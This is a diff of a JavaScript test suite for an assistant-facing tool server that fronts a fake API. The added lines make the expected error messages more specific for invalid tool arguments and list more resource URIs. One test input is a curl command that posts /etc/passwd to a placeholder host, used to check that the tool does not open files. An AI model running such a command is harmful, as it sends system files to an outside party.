@@ -168,17 +168,22 @@ describe.each(Object.values(OVER))('an assistant over %s', (transport) => {
   });
 
   test.each([
-    ['explain_rejection', {}, 'request'],
+    ['explain_rejection', {}, 'request is missing. The request as text'],
+    ['explain_rejection', { request: RIGHT, stauts: 400 }, 'Did you mean "status"?'],
     ['explain_rejection', { request: '   ' }, 'request cannot be read'],
     ['explain_rejection', { request: 'curl https://x.example -d @/etc/passwd' }, 'files are not opened'],
     ['check_payload', { request: RIGHT, variants: { scope: 'eiter' } }, 'either'],
     ['compare_variants', { variant: 'scop' }, 'scope'],
     ['show_evidence', { about: 'EP-999' }, 'EP-'],
-    ['start_fake', { variants: { scope: 'call' } }, 'runs already'],
-    ['set_override', { scenario: 'no-such' }, 'no-such'],
-    ['set_override', { fault: { status: 'x' } }, 'status'],
-    ['set_override', { stub: { request: {} } }, 'responses'],
-    ['no_such_tool', {}, 'explain_rejection'],
+    ['start_fake', { variants: { scope: 'call' } }, 'variants: a fake runs already at http://127.0.0.1:'],
+    ['set_override', { scenario: 'no-such' }, 'scenario: Unknown scenario "no-such"'],
+    ['set_override', { fault: { status: 'x' } }, 'fault: /status'],
+    ['set_override', { stub: { request: {} } }, "stub: must have required property 'responses'"],
+    ['set_override', { name: 'a b', stub: {} }, 'name: the name of a stub must be'],
+    ['set_override', { name: 'a' }, 'name: nothing has this name'],
+    ['list_exchanges', { filter: { stauts: 400 } }, 'filter: '],
+    ['verify_requests', { expectations: [{ operation: 'noSuch' }] }, 'expectations: '],
+    ['no_such_tool', {}, 'Unknown tool "no_such_tool"'],
   ])('is told what is wrong with %s %j', async (name, args, part) => {
     if (name === 'set_override' || name === 'start_fake') await call(client, 'start_fake');
     const { isError, text } = await call(client, name, args);
@@ -194,11 +199,14 @@ describe.each(Object.values(OVER))('an assistant over %s', (transport) => {
     };
     const documents = resources.filter(({ mimeType }) => mimeType === 'application/json');
     expect(documents.map(({ uri }) => uri)).toEqual(
-      ['openapi.json', 'claims', 'rejections', 'variants'].map((name) => `fake-cxone://${name}`),
+      ['openapi.json', 'claims', 'rejections', 'variants', 'tenant', 'scenarios', 'admin-openapi.json'].map(
+        (name) => `fake-cxone://${name}`,
+      ),
     );
     for (const { uri } of documents) expect(JSON.parse(await textOf(uri))).toBeTruthy();
     expect(JSON.parse(await textOf('fake-cxone://variants')).scope.values.call.evidence.claims[0].id).toBe('EP-06');
     await expect(client.readResource({ uri: 'fake-cxone://nothing' })).rejects.toThrow('resources/list');
+    expect((await client.listResourceTemplates()).resourceTemplates).toEqual([]);
   });
 
   test('reads the pages of the documentation as Markdown', async () => {
